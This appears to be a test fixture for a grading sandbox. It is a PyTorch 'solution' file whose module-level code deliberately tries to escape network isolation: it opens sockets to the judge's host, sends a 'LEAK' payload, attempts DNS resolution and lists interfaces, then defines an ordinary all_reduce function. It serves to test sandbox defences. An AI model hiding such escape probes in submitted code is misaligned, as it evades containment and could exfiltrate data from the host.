"""Exploit (escape: network): connect out and send something - here to listeners the test opened on the judge's
host (its loopback, where a database or broker would listen, and its other addresses). Defence: the candidate group
has its own network namespace with only loopback, shared by its ranks and nothing else. TARGETS and PORT are filled
in by the test."""
import socket
import sys

import torch.distributed as dist

TARGETS = "__TARGETS__"
PORT = "__PORT__"

for host in [h for h in TARGETS.split(",") if h and not h.startswith("__")]:
    try:
        with socket.create_connection((host, int(PORT)), timeout=3) as s:
            s.sendall(b"LEAK")
        print(f"opens_network: CONNECTED to {host}:{PORT}", file=sys.stderr)
    except OSError as exc:
        print(f"opens_network: {host}:{PORT}: {exc}", file=sys.stderr)
try:
    socket.getaddrinfo("example.com", 443)
    print("opens_network: DNS resolved", file=sys.stderr)
except OSError as exc:
    print(f"opens_network: DNS: {exc}", file=sys.stderr)
print(f"opens_network: interfaces {[name for _, name in socket.if_nameindex()]}", file=sys.stderr)


def solution(tensor):
    out = tensor.clone()
    dist.all_reduce(out)
    return out
